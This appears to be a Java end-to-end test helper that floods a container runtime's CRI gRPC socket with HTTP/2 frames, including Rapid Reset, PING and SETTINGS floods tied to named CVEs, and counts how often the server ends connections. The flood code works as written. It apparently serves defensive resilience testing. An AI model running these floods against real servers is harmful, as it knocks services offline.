package io.keelson.e2e;

import java.io.ByteArrayOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.locks.LockSupport;

/** Somebody who floods a CRI socket with HTTP/2 frames (RFC 9113), and comes again whenever the server has had enough. */
enum Http2Flood {
    /** Calls that are cancelled at once (CVE-2023-44487). */
    RESETS {
        @Override
        void round(ByteArrayOutputStream out, int streamId) {
            frame(out, HEADERS, END_HEADERS, streamId, VERSION_CALL);
            frame(out, RST_STREAM, 0, streamId, new byte[] {0, 0, 0, 8});
        }
    },
    /** CVE-2019-9512. */
    PINGS {
        @Override
        void round(ByteArrayOutputStream out, int streamId) {
            frame(out, PING, 0, 0, new byte[8]);
        }
    },
    /** CVE-2019-9515. */
    SETTINGS_AGAIN {
        @Override
        void round(ByteArrayOutputStream out, int streamId) {
            frame(out, SETTINGS, 0, 0, new byte[0]);
        }
    },
    /** Calls that begin and never go on. */
    CALLS {
        @Override
        void round(ByteArrayOutputStream out, int streamId) {
            frame(out, HEADERS, END_HEADERS, streamId, VERSION_CALL);
        }
    };

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int END_HEADERS = 4;
    private static final int BATCH = 100;
    private static final Duration PAUSE = Duration.ofMillis(1);
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] VERSION_CALL = call("/runtime.v1.RuntimeService/Version");

    abstract void round(ByteArrayOutputStream out, int streamId);

    /**
     * What came of it.
     *
     * @param rounds that were taken from connections that lasted to the end
     * @param endings connections that the server ended, since it had enough
     */
    record Outcome(long rounds, long endings) {}

    /** Whether the server ends connections for it, as it may for the others, which come in turns with everybody else's frames. */
    boolean isEnded() {
        return this == RESETS || this == PINGS;
    }

    Outcome run(Path socket, Duration time) {
        var end = System.nanoTime() + time.toNanos();
        var rounds = 0L;
        var endings = 0L;
        while (System.nanoTime() < end) {
            try (var channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                channel.connect(UnixDomainSocketAddress.of(socket));
                channel.configureBlocking(false);
                rounds += flood(channel, end);
            } catch (IOException e) {
                endings++;
            }
        }
        return new Outcome(rounds, endings);
    }

    /** @throws IOException when the server has ended the connection */
    private long flood(SocketChannel channel, long end) throws IOException {
        var out = new ByteArrayOutputStream();
        out.writeBytes(PREFACE);
        frame(out, SETTINGS, 0, 0, new byte[0]);
        var ignored = ByteBuffer.allocate(1 << 16);
        var rounds = 0L;
        for (var streamId = 1; System.nanoTime() < end; ) {
            for (var i = 0; i < BATCH; i++, streamId += 2) {
                round(out, streamId);
            }
            var bytes = ByteBuffer.wrap(out.toByteArray());
            out.reset();
            while (bytes.hasRemaining() && System.nanoTime() < end) {
                var written = channel.write(bytes);
                if (channel.read(ignored.clear()) < 0) {
                    throw new EOFException();
                }
                if (written == 0) {
                    LockSupport.parkNanos(PAUSE.toNanos());
                }
            }
            rounds += BATCH;
        }
        return rounds;
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int streamId, byte[] payload) {
        out.writeBytes(ByteBuffer.allocate(9 + payload.length)
                .putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(streamId)
                .put(payload)
                .array());
    }

    /** Headers of a call, by the static table of HPACK (RFC 7541, appendix A) and literals. */
    private static byte[] call(String path) {
        var out = new ByteArrayOutputStream();
        out.write(0x83);
        out.write(0x86);
        out.write(0x04);
        text(out, path);
        out.write(0x01);
        text(out, "localhost");
        out.write(0x0F);
        out.write(0x10);
        text(out, "application/grpc");
        out.write(0x00);
        text(out, "te");
        text(out, "trailers");
        return out.toByteArray();
    }

    private static void text(ByteArrayOutputStream out, String value) {
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }
}
